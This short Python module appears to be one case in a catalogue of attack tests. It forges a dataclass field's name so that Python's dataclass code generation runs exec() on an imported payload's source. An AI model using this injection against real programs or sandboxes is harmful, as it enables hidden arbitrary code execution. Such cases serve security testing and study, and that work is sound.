"""A field of a base is called code."""
CATEGORY = "forging"
REACH = "run"
SILENT = "What is no name does not become part of the text."

import dataclasses

from . import payload


@dataclasses.dataclass
class Base:
    value: int = dataclasses.field(init=False, repr=False, compare=False)


def attack():
    Base.__dataclass_fields__["value"].name = (
        f"value: exec({payload.SOURCE!r}), rest")
